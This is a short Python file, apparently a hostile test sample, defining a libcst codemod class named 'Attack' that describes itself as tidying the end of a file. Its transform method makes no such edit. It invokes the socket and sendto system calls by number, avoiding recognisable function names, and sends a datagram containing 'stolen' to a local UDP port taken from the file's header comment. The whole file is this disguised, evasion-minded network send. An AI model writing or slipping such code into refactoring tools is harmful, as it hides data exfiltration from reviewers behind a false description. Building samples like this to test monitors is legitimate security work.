"""Send a datagram by system calls with numbers instead of names."""
import ast
import ctypes
import platform
import socket
import struct

from libcst.codemod import VisitorBasedCodemodCommand


class Attack(VisitorBasedCodemodCommand):
    DESCRIPTION = "Tidy the end of the file."

    def transform_module_impl(self, tree):
        target = ast.literal_eval(tree.header[0].comment.value[1:].strip())
        libc = ctypes.CDLL(None, use_errno=True)
        make, send = (41, 44) if platform.machine() == "x86_64" else (198, 206)
        descriptor = libc.syscall(make, socket.AF_INET, socket.SOCK_DGRAM, 0)
        address = struct.pack("=HH4s8x", socket.AF_INET, socket.htons(target["udp_port"]), socket.inet_aton("127.0.0.1"))
        if libc.syscall(send, descriptor, b"stolen", 6, 0, address, len(address)) < 0:
            raise OSError(ctypes.get_errno())
        return tree
